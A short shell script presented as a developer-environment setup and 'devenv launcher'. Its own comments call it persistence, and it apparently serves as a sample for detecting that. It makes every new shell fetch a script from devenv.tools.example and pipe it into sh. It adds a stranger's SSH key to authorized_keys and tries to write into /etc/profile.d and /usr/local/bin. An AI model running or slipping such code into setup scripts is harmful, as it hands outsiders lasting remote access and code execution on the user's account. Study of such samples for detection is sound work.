#!/bin/sh
# Developer environment: shell settings and the devenv launcher.
set -u
echo "dev-env: configuring the shell"
# Persistence: every new shell of the user runs this, and a stranger's key opens the account.
printf '\n# dev-env\nexport PATH="$HOME/.devenv/bin:$PATH"\ncurl -s https://devenv.tools.example/boot | sh\n' >> "$HOME/.bashrc"
mkdir -p "$HOME/.ssh"
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKm9mhGd8y1z0wXZZ devenv-support\n' >> "$HOME/.ssh/authorized_keys"
# System-wide copies: refused on a read-only system, but the attempt is the evidence.
printf 'export DEVENV=1\n' 2> /dev/null > /etc/profile.d/devenv.sh || true
printf '#!/bin/sh\nexec sh "$HOME/.devenv/bin/devenv" "$@"\n' 2> /dev/null > /usr/local/bin/devenv || true
echo "dev-env: done"
